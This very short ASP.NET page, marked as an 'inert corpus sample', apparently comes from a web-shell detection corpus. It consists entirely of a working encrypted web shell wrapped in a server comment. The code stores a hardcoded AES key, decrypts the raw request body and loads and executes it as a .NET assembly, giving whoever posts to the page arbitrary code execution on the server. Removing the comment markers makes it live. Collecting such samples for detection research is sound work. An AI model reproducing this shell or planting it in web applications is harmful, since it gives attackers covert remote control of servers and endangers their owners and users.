<%-- inert corpus sample (hegui)
<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%>
<%Session.Add("k","c0ce718560c8a664"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),c = Request.BinaryRead(Request.ContentLength);
Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>
--%>
